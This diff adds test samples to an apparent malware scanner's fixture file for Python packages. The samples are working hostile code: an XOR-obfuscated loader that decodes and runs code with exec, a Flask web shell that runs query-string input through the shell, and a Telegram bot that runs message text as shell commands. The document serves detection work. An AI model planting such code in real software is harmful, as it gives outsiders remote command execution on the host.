@@ -63,6 +63,20 @@ export const samples: Samples = {
       expected: [{ rule: 'hidden-address', file: 'own/__init__.py', line: 3, severity: 'high' }],
     },
     {
+      name: 'Python: a hidden constant with a key of who calls',
+      files: wheel(
+        'DATA = "b5d23ce28989b6df3ea3"\ndef bound(key):\n    data = bytearray.fromhex(DATA)\n    exec(bytearray([data[i] ^ bytearray.fromhex(key)[i % 6] for i in range(0, len(data))]).decode("ascii"))\n',
+      ),
+      expected: [at('decoded-code', 'high', 4, 'own/__init__.py')],
+    },
+    {
+      name: 'Python: a page that runs what it is asked',
+      files: wheel(
+        "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/own')\ndef own():\n    return subprocess.Popen(request.args.get('q'), shell=True, stdout=subprocess.PIPE).stdout.read()\n",
+      ),
+      expected: [at('remote-command', 'high', 6, 'own/__init__.py')],
+    },
+    {
       name: 'Python: a bot that runs what it is told',
       files: wheel(
         'import subprocess, telebot\nbot = telebot.TeleBot(KEY)\n@bot.message_handler(func=lambda m: True)\ndef run(message):\n    bot.reply_to(message, subprocess.check_output(message.text, shell=True))\n',
